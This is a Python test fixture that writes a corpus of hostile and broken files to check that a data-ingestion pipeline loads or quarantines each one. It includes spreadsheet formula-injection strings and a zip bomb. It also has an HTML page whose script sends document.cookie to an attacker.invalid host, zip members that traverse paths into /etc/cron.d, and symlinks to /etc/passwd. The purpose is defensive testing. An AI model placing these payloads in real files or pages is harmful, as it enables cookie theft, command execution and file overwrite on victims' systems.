"""A corpus of hostile and broken inputs, written into a raw-folder layout at test time.

`build_corpus(root)` writes every file (deterministic bytes, about a second, nothing large is
committed) and returns {relative path: (expectation, note)}, where expectation is
'quarantined' | 'loaded' | 'loaded_or_quarantined': what core.documents must say about the file
after one pipeline run. Run it as a script to write a corpus somewhere and look at it:
`python tests/e2e/hostile/make_corpus.py /tmp/hostile_raw`.
"""
from __future__ import annotations

import io
import json
import os
import random
import sys
import zipfile
from pathlib import Path

try:
    from tests.e2e.hostile import archives
    from tests.e2e.hostile.office import add_office_files
except ImportError:   # run as a script
    import archives
    from office import add_office_files

QUARANTINED, LOADED, EITHER = "quarantined", "loaded", "loaded_or_quarantined"

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1)", '@HYPERLINK("http://attacker.invalid/x","click")', "-2+3",
            "=1+1", "\t=cmd|'/C notepad'!A1"]


# ------------------------------------------------------------------------------------ helpers

def _yahoo_rows(n: int = 20, start_day: int = 1, month: int = 1, base: float = 40000.0) -> list[list[str]]:
    rows = []
    for i in range(n):
        close = base + 37.5 * i
        rows.append([f"2024-{month:02d}-{start_day + i:02d}", f"{close * 0.999:.2f}", f"{close * 1.01:.2f}",
                     f"{close * 0.99:.2f}", f"{close:.2f}", f"{1_000_000 + i}"])
    return rows


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    def cell(value: str) -> str:
        if any(c in value for c in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value
    return "".join(delimiter.join(cell(c) for c in row) + "\r\n" for row in rows)


YAHOO_HEADER = ["Date", "Open", "High", "Low", "Close", "Volume"]


def _pdf(objects: list[bytes], *, root: int = 1, xref: str = "good") -> bytes:
    """A PDF from object bodies (object k+1 = objects[k]); xref 'good', 'wrong_offsets' or 'garbage'."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        if xref == "wrong_offsets":
            offset = (offset * 7 + 13) % max(1, start)
        out += b"%010d 00000 n \n" % offset
    if xref == "garbage":
        out[start:] = b"xref\n0 zz\nthis is not a cross-reference table \x00\x01\x02\n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _text_page_pdf(lines: list[str], *, xref: str = "good") -> bytes:
    content = b"BT /F1 10 Tf 40 780 Td 14 TL " + b" ".join(
        b"(" + line.encode("latin-1").replace(b"(", b"\\(").replace(b")", b"\\)") + b") '" for line in lines) + b" ET"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                 b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                 b"/Resources << /Font << /F1 5 0 R >> >> >>",
                 _stream(content), _FONT], xref=xref)


def _many_pages_pdf(pages: int, text: str) -> bytes:
    """`pages` pages sharing one tiny content stream: a few hundred bytes per page."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
               _stream(b"BT /F1 8 Tf 20 20 Td (" + text.encode("latin-1") + b") Tj ET"), _FONT]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>"
    objects += [page] * pages
    return _pdf(objects)


def _nested_pdf(depth: int) -> bytes:
    """A one-page PDF whose page carries `depth` nested arrays and dicts, in its dict and in its content."""
    nested = b"[" * depth + b"]" * depth
    nested_dict = b"<< /A " * depth + b"1" + b" >>" * depth
    content = b"BT /F1 10 Tf 40 780 Td (deep) Tj ET " + nested + b" pop"
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>",
                 b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                 b"/Resources << /Font << /F1 5 0 R >> >> /Nest " + nested + b" >>",
                 _stream(content), _FONT, nested_dict])


def _zip(members: list[tuple[str, bytes]], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def _bomb_xlsx(unpacked: int) -> bytes:
    """An XLSX-named zip whose one member inflates `unpacked` zero bytes (ratio about 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("[Content_Types].xml", date_time=(2024, 1, 1, 0, 0, 0)), "<Types/>")
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            for _ in range(unpacked >> 20):
                member.write(bytes(1 << 20))
    return buffer.getvalue()


# ------------------------------------------------------------------------------------ the corpus

def build_corpus(root: Path) -> dict[str, tuple[str, str]]:
    """Write the hostile corpus under `root` (a raw folder) and return {path: (expectation, note)}."""
    root = Path(root)
    rng = random.Random(20240101)
    made: dict[str, tuple[str, str]] = {}

    def put(rel: str, data: bytes | str, expect: str, note: str, encoding: str = "utf-8") -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
        made[rel] = (expect, note)

    yahoo = _csv([YAHOO_HEADER] + _yahoo_rows())

    # --- prices: encodings, delimiters, dates, formulas, shapes
    put("prices/BTC-USD_utf16.csv", yahoo, LOADED, "UTF-16 LE with BOM", encoding="utf-16")
    put("prices/ETH-USD_utf16be.csv", "\ufeff" + _csv([YAHOO_HEADER] + _yahoo_rows(base=2000)), LOADED,
        "UTF-16 BE with BOM", encoding="utf-16-be")
    put("prices/ETH-USD_cp1252.csv",
        _csv([YAHOO_HEADER + ["source"]] + [r + ["Börse Café – 2 € fee"] for r in _yahoo_rows(base=2100, month=2)]),
        LOADED, "cp1252 bytes (ö, é, en dash, euro sign) in a text column", encoding="cp1252")
    put("prices/ETC-USD_bom.csv", "\ufeff" + _csv([YAHOO_HEADER] + _yahoo_rows(base=20)), LOADED,
        "UTF-8 with BOM before the first header")
    put("prices/XMR-USD_nul.csv", yahoo.replace("2024-01-05", "2024-01-\x0005"), QUARANTINED,
        "NUL bytes inside a CSV")
    put("prices/BTC-USD_semicolon.csv", _csv([YAHOO_HEADER] + _yahoo_rows(month=3), ";"), LOADED, "';' delimiter")
    put("prices/BTC-USD_tab.tsv", _csv([YAHOO_HEADER] + _yahoo_rows(month=4), "\t"), LOADED, "tab delimiter")
    put("prices/BTC-USD_pipe.csv", _csv([YAHOO_HEADER] + _yahoo_rows(month=5), "|"), LOADED, "'|' delimiter")
    mixed = _yahoo_rows(month=6)
    mixed[3][0], mixed[7][0] = "06/04/2024", "8.6.2024"
    put("prices/BTC-USD_mixed_dates.csv", _csv([YAHOO_HEADER] + mixed), LOADED,
        "mostly ISO dates with a US and a German date among them: those two rows are quarantined")
    formula = _yahoo_rows(month=7)
    for i, text in enumerate(FORMULAS[:4]):
        formula[2 * i][4] = text            # close is a formula: that row is quarantined
    put("prices/BTC-USD_formula.csv",
        _csv([YAHOO_HEADER + ["source"]] + [r + [FORMULAS[i % len(FORMULAS)]] for i, r in enumerate(formula)]),
        LOADED, "formula-injection strings as prices and as provenance notes")
    put("prices/BTC-USD_header_only.csv", _csv([YAHOO_HEADER]), QUARANTINED, "a header and no rows")
    put("prices/BTC-USD_duplicate_headers.csv",
        _csv([["Date", "Open", "High", "Low", "Close", "Close", "Volume"]]
             + [r[:5] + [r[4], r[5]] for r in _yahoo_rows(month=8)]), EITHER, "the Close column twice")
    wide_header = YAHOO_HEADER + [f"extra_{i}" for i in range(994)]
    put("prices/BTC-USD_1000_columns.csv",
        _csv([wide_header] + [r + [str(i * j % 97) for j in range(994)] for i, r in enumerate(_yahoo_rows(month=9))]),
        LOADED, "1,000 columns")
    long_rows = _yahoo_rows(month=10)
    put("prices/BTC-USD_long_lines.csv",
        _csv([YAHOO_HEADER + ["source"]] + [r + ["x" * 300_000] for r in long_rows]), LOADED,
        "every line 300 kB long (longer than the 256 kB sample the shape is read from)")
    huge = _yahoo_rows(month=11)
    put("prices/BTC-USD_5MB_field.csv",
        _csv([YAHOO_HEADER + ["source"]] + [r + ["y" * (5 * 2**20) if i == 5 else "ok"] for i, r in enumerate(huge)]),
        LOADED, "one 5 MB field in row 6")
    put("prices/BTC-USD ünïcødé «copy» #1 (2).csv", _csv([YAHOO_HEADER] + _yahoo_rows(month=12)), LOADED,
        "spaces, unicode, guillemets and # in the file name")
    put("prices/BTC-USD_cr_only.csv", _csv([YAHOO_HEADER] + _yahoo_rows(month=1, base=41000)).replace("\r\n", "\r"),
        LOADED, "old Mac line endings (CR only)")
    put("prices/BTC-USD_unclosed_quote.csv",
        _csv([YAHOO_HEADER] + _yahoo_rows(month=2, base=42000)).replace("2024-02-03,", '2024-02-03,"', 1),
        EITHER, "a quote opened in row 3 and never closed")
    put("prices/.DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(rng.randrange(256) for _ in range(2000)), QUARANTINED,
        "a hidden dotfile (macOS folder metadata)")
    put("prices/archive.zip", _zip([("BTC-USD.csv", yahoo.encode()), ("../../outside.csv", yahoo.encode())]),
        LOADED, "a zip archive dropped among the price files: unpacked, its ../ member refused (archives.MEMBERS)")
    os.symlink("/etc/passwd", root / "prices" / "link_outside.csv")
    made["prices/link_outside.csv"] = (QUARANTINED, "symbolic link to a file outside the raw folder")

    # --- network
    put("network/btc_network_de_semicolon.csv",
        "date;hashrate_hs;difficulty;blocks_per_day\r\n"
        + "".join(f"2024-01-{d:02d};5,{d}E+20;72.006.146.478.567,1;144\r\n" for d in range(1, 11)),
        EITHER, "German decimals with ';': the numbers are not English, so every row is quarantined")
    put("network/eth_network_mixed_dates.csv",
        "date,hashrate_hs,blocks_per_day\n"
        + "".join(f"{d},9.1E+14,7100\n" for d in ["2024-01-01", "02.01.2024", "01/03/2024", "4 Jan 2024",
                                                  "2024-01-05T00:00:00Z", "1704499200", "Jan 7, 2024", "2024/01/08",
                                                  "2024-13-01", "yesterday"]),
        LOADED, "ten different date formats in one column: unreadable rows are quarantined")
    put("network/btc_random_bytes.csv", bytes(rng.randrange(1, 256) for _ in range(4096)), QUARANTINED,
        "random binary bytes named .csv")
    put("network/sub/deeper/btc_empty.csv", b"", QUARANTINED, "an empty file two folders down")

    # --- hardware
    put("hardware/odd_units.csv",
        "device,device_class,algorithm,hashrate,unit,power_w\n"
        "Card A,consumer_gpu,ethash,60,MH/s,120\nCard B,consumer_gpu,ethash,0.06,Gh/s,120\n"
        "Miner C,asic,sha256,110,THps,3250\nMiner D,asic,sha256,110,furlongs,3250\n"
        "Miner E,asic,sha256,(5),TH/s,3250\n",
        LOADED, "hashrate units MH/s, Gh/s, THps and an unknown one (quarantined)")
    put("hardware/formula_and_duplicate_headers.csv",
        "device,device,device_class,algorithm,hashrate_hs,power_w\n"
        + "".join(f"{f},{f},datacenter_gpu,sha256d,1e9,700\n"
                  for f in ['"=cmd|\' /C calc\'!A0"', '"+SUM(1)"', '"@HYPERLINK(""http://x.invalid"")"', '"-2+3"']),
        LOADED, "formula-injection device names (stored as text) and a duplicated header")

    # --- fx
    put("fx/ecb_cp1252_semicolon.csv",
        "Date;USD;JPY;source\r\n" + "".join(f"2024-02-{d:02d};1,08;160,1;Schätzung für März\r\n" for d in range(1, 6))
        + "2024-02-06;1.0812;160.5;Schätzung für März\r\n",
        LOADED, "cp1252, ';', German decimals (those rows quarantined) and one English row", encoding="cp1252")
    put("fx/ecb_mixed_dates.csv",
        "date,usd_per_eur\n2024-03-01,1.08\n03/04/2024,1.09\n05.03.2024,1.07\n6 Mar 2024,1.06\n2024-03-07,=1+1\n",
        LOADED, "mixed date formats and a formula as a rate")
    put("fx/header_only.csv", "date,usd_per_eur\n", EITHER, "a header and no rows")

    # --- flows
    put("flows/btc_flows_formulas.csv",
        "Date,IBIT,FBTC,GBTC,Total\n11 Jan 2024,111.7,\"1,227.0\",(95.1),\"1,243.6\"\n"
        "12 Jan 2024,=SUM(B2:B3),195.3,(484.1),-\n15 Jan 2024,+SUM(1),@HYPERLINK(\"x\"),-2+3,0\n"
        "16 Jan 2024,(1,234.5),-,(1.0),0\nTotal,1,2,3,6\n",
        LOADED, "Farside parentheses, thousands separators, formulas (quarantined), a summary row")
    put("flows/eth_flows_1000_funds.csv",
        "Date," + ",".join(f"F{i}" for i in range(999)) + "\n"
        + "".join(f"2024-05-{d:02d}," + ",".join(f"{(i * d) % 13 - 6}.5" for i in range(999)) + "\n" for d in range(1, 6)),
        LOADED, "1,000 columns (999 funds)")

    # --- events
    put("events/formula_titles.csv",
        "date,asset,kind,title,source\n"
        + "".join(f'2024-02-{i + 1:02d},BTC,leak,"{t.replace(chr(34), chr(34) * 2)}",hostile corpus\n'
                  for i, t in enumerate(FORMULAS)),
        LOADED, "formula-injection strings as event titles (kept verbatim, never evaluated)")
    put("events/huge_title.csv",
        "date,asset,kind,title,source\n2024-03-01,BTC,leak,small,x\n"
        f"2024-03-02,BTC,leak,{'z' * (5 * 2**20)},x\n2024-03-03,BTC,leak,after,x\n",
        EITHER, "a 5 MB title in the second row")
    put("events/événements 2024 – copie.csv", "date,asset,kind,title\n2024-04-01,ETH,note,Ünïcödé tïtle ✓\n",
        LOADED, "unicode file name and content")
    put("events/unclosed_quote.csv",
        'date,asset,kind,title\n2024-05-01,BTC,leak,fine\n2024-05-02,BTC,leak,"never closed\n'
        "2024-05-03,BTC,leak,swallowed\n2024-05-04,BTC,leak,swallowed too\n",
        LOADED, "a quote never closed: the row that swallows the rest of the file is quarantined")
    put("hardware/only_a_bom.csv", "\ufeff", QUARANTINED, "nothing but a byte-order mark")
    put("events/empty_dir/empty.csv", b"", QUARANTINED, "an empty file in its own subfolder")
    (root / "events" / "truly_empty_folder").mkdir(parents=True, exist_ok=True)
    os.symlink("/etc", root / "events" / "linked_dir")
    made["events/linked_dir"] = (QUARANTINED, "symbolic link to a folder outside the raw folder")

    # --- cost sheets
    put("cost_sheets/hostile_3000_pages.pdf", _many_pages_pdf(3200, "page"), QUARANTINED,
        "3,200 pages (over the 500-page limit)")
    put("cost_sheets/hostile_nested_10000.pdf", _nested_pdf(10_000), QUARANTINED,
        "10,000 nested arrays and dicts, no cost table")
    put("cost_sheets/hostile_bad_xref.pdf",
        _text_page_pdf(["Kostenblatt", "Standort GPU-Typ Anzahl"], xref="wrong_offsets"), QUARANTINED,
        "cross-reference table with wrong offsets")
    put("cost_sheets/hostile_garbage_xref.pdf", _text_page_pdf(["hello"], xref="garbage"), QUARANTINED,
        "cross-reference table replaced by garbage")
    put("cost_sheets/hostile_garbage_body.pdf",
        b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(20_000)) + b"\n%%EOF\n", QUARANTINED,
        "a %PDF header, a random body and an %%EOF")
    put("cost_sheets/hostile_traversal.xlsx",
        _zip([("[Content_Types].xml", b"<Types/>"), ("../../../../tmp/evil.txt", b"owned"),
              ("xl/workbook.xml", b"<workbook/>")]), QUARANTINED, "XLSX zip with ../ member paths")
    put("cost_sheets/hostile_zip_bomb.xlsx", _bomb_xlsx(64 * 2**20), QUARANTINED,
        "XLSX zip bomb: 64 MB of zeros, compression ratio about 1000:1")
    put("cost_sheets/hostile_archive.zip", _zip([("sheet.csv", b"a;b;c\n1;2;3\n")]), LOADED,
        "a plain .zip dropped among the leaks: unpacked, its member is no cost sheet (archives.MEMBERS)")
    put("cost_sheets/hostile_formulas.csv",
        "\ufeffStandort;GPU-Typ;Anzahl;Leistung (kW);Strompreis (ct/kWh)\r\n"
        "=cmd|' /C calc'!A0;H100;1.024;700,0;21,5\r\n+SUM(1);A100;@HYPERLINK(\"x\");400,0;-2+3\r\n",
        EITHER, "a cost sheet whose cells are formula-injection strings")
    put("cost_sheets/hostile_utf16.csv",
        "Standort\tGPU-Typ\tAnzahl\tLeistung (kW)\tStrompreis (ct/kWh)\r\nFrankfurt\tH100\t2.048\t1.400,0\t21,5\r\n",
        EITHER, "a UTF-16 tab-separated cost sheet", encoding="utf-16")

    add_office_files(put)

    # --- capex
    deep = "[" * 100_000 + "]" * 100_000
    put("capex/hostile_deep.json", deep, QUARANTINED, "JSON nested 100,000 levels deep")
    record = {"company": "Meta", "announced_on": "2024-04-24", "amount": "35-40", "unit": "bn",
              "currency": "USD", "scope": "total_capex", "text": "padding " * 40}
    big = json.dumps({"announcements": [record] * 1}, indent=0)
    filler = json.dumps({"padding": "p" * (21 * 2**20), "announcements": []})
    put("capex/hostile_huge.json", filler, QUARANTINED, "a 21 MB JSON file (over the 20 MB limit)")
    put("capex/hostile_deep_dicts.json", '{"a":' * 50_000 + "1" + "}" * 50_000, QUARANTINED,
        "JSON objects nested 50,000 deep")
    put("capex/hostile_one_record.json", big, LOADED, "a valid record among the hostile files")
    put("capex/hostile_page.html",
        "<!doctype html><html lang=en><head><meta http-equiv=refresh content='0;url=http://attacker.invalid/'>"
        "<link rel=stylesheet href='http://attacker.invalid/a.css'><script src='http://attacker.invalid/x.js'></script>"
        "<script>fetch('http://attacker.invalid/steal?'+document.cookie)</script><title>Capex news</title></head>"
        "<body><iframe src='http://attacker.invalid/frame'></iframe><img src='http://attacker.invalid/p.png'>"
        "<object data='http://attacker.invalid/o.swf'></object>"
        + "<div>" * 20_000 + "<p>On April 24, 2024, Meta said it expects 2024 capital expenditures of $35-40 billion.</p>"
        + "</div>" * 20_000 + "<p style='display:none'>Hidden: Meta will spend $999 billion.</p></body></html>",
        LOADED, "scripts, iframes, remote references, a meta refresh, 20,000 nested divs, hidden text")
    put("capex/hostile_3000_pages.pdf", _many_pages_pdf(3000, "Capex"), EITHER, "3,000 pages of one word")
    put("capex/hostile_garbage.pdf", b"%PDF-1.4\n" + bytes(rng.randrange(256) for _ in range(5000)), QUARANTINED,
        "a %PDF header and a random body")
    put("capex/hostile_binary.txt", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(rng.randrange(256) for _ in range(3000)),
        QUARANTINED, "a Windows executable named .txt")
    put("capex/hostile_traversal.zip", _zip([("../../etc/cron.d/evil", b"* * * * * root true")]), LOADED,
        "a zip with a ../ member dropped among the press releases: unpacked, the member refused")
    put("capex/hostile_formulas.csv",
        "company,period_end,capex_usd_m\nMeta,2024-03-31,=cmd|' /C calc'!A0\nMeta,2024-06-30,8173\n"
        "Meta,2024-09-30,+SUM(1)\n@HYPERLINK(\"x\"),2024-12-31,-2+3\n",
        LOADED, "a quarterly capex table with formula-injection cells (those rows quarantined)")

    # --- archives and e-mails (issue 19): their members are checked through archives.MEMBERS
    archives.build(put)

    # --- outside every input folder
    put("hostile notes.txt", "a stray note at the top of the raw folder", QUARANTINED, "not in an input folder")
    return made


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_raw")
    corpus = build_corpus(target)
    for rel, (expect, note) in sorted(corpus.items()):
        print(f"{expect:22} {rel}  ({note})")
    print(f"{len(corpus)} files under {target}")
